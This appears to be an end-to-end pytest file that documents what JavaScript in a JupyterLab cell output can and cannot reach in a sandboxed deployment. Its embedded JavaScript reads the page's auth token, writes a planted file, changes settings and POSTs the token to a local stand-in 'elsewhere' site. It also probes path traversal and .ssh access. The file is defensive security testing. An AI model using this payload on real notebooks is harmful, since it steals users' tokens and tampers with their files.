"""What JavaScript in a cell's output can and cannot reach (docs/security.md).

It runs in the browser, in JupyterLab's page, outside any sandbox. Each row below is one thing that it tries
from there, and what it gets, with JupyterLab as the printed line starts it.
"""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.e2e.browser import KERNEL, Notebook
from tests.e2e.servers import Gateway, Server

#: (what it tries, JavaScript whose value is what it gets). `call` answers with the status of a request.
CAN = {
    "read the page's token": ("config.token.length > 0", True),
    "read files of the scratch folder": ("await call('GET', 'api/contents')", 200),
    "write files of the scratch folder": (
        "await call('PUT', 'api/contents/planted.txt', {type: 'file', format: 'text', content: 'planted'})",
        201,
    ),
    "start another sandboxed kernel": ("await call('POST', 'api/kernels', {name: 'python3'})", 201),
    "change JupyterLab's settings": (
        "await call('PUT', 'lab/api/settings/@jupyterlab/apputils-extension:themes', {raw: '{}'})",
        204,
    ),
    "send what it finds to another web site": ("await send(ELSEWHERE + '/stolen')", "sent"),
}

CANNOT = {
    "open a terminal": ("await call('POST', 'api/terminals')", 404),
    "install a package": (
        "await call('POST', 'lab/api/extensions', {cmd: 'install', extension_name: 'no-such-package'})",
        422,
    ),
    "start a language server": ("await call('GET', 'lsp/status')", 404),
    "export by LaTeX": ("await call('GET', 'nbconvert/pdf/planted.ipynb')", 403),
    "export at all": ("await call('GET', 'api/nbconvert')", 403),
    "read files beyond the folder": ("await call('GET', 'api/contents/..%2F..%2Fgateway.log')", 404),
    "read hidden files": ("await call('GET', 'api/contents/.ssh')", 404),
    "read the gateway's answers": ("await call('GET', GATEWAY + '/api/kernels')", "TypeError"),
    "find the gateway's token": (
        "document.documentElement.outerHTML.includes(SECRET_HALF_1 + SECRET_HALF_2)",
        False,
    ),
}

PROGRAM = """
const config = JSON.parse(document.getElementById('jupyter-config-data').textContent);
const ask = (method, path, body) => fetch(path.startsWith('http') ? path : config.baseUrl + path, {{
  method,
  body: body && JSON.stringify(body),
  headers: {{Authorization: 'token ' + config.token}},
}});
const call = async (...request) => (await ask(...request)).status;
const send = async (url) => {{
  await fetch(url, {{method: 'POST', mode: 'no-cors', body: config.token}});
  return 'sent';
}};
const got = {{}};
for (const [name, attempt] of {attempts}) {{
  try {{ got[name] = await attempt(); }} catch (error) {{ got[name] = error.name; }}
}}
const result = document.createElement('pre');
result.className = 'reached';
result.textContent = JSON.stringify(got);
element.append(result);
"""


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """A web site of somebody else's that keeps what it is sent."""

    received: list[str]

    def do_POST(self) -> None:
        self.received.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of such a site, and what it has received."""
    handler = type("Site", (Elsewhere,), {"received": []})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", handler.received  # type: ignore[attr-defined]
    server.shutdown()
    thread.join()
    server.server_close()


def test_javascript_in_an_output_reaches_what_its_table_says(
    open_notebook: Callable[..., Notebook], gateway: Gateway, lab: Server, elsewhere: tuple[str, list[str]]
) -> None:
    site, received = elsewhere
    rows = {**CAN, **CANNOT}
    attempts = ", ".join(f"[{json.dumps(name)}, async () => {code}]" for name, (code, _) in rows.items())
    half = len(gateway.token) // 2
    values = {
        "ELSEWHERE": site,
        "GATEWAY": gateway.url,
        # Whole, it would be in the page because it is in the cell.
        "SECRET_HALF_1": gateway.token[:half],
        "SECRET_HALF_2": gateway.token[half:],
    }
    program = PROGRAM.format(attempts=f"[{attempts}]")
    for name, value in values.items():
        program = program.replace(name, json.dumps(value))
    before = gateway.kernel_ids()
    notebook = open_notebook(f"from IPython.display import Javascript\nJavascript({_async(program)!r})")
    notebook.run(0)
    result = notebook.output(0).locator("pre.reached")
    expect(result).to_be_attached(timeout=KERNEL)
    got: dict[str, Any] = json.loads(result.inner_text())
    assert got == {name: value for name, (_, value) in rows.items()}
    assert received == [lab.token]
    assert (lab.folder / "planted.txt").read_text() == "planted"
    (started,) = gateway.kernel_ids() - before - {notebook.kernel_id()}
    assert lab.call("DELETE", f"/api/kernels/{started}")[0] == 204


def _async(program: str) -> str:
    return f"(async () => {{{program}}})()"
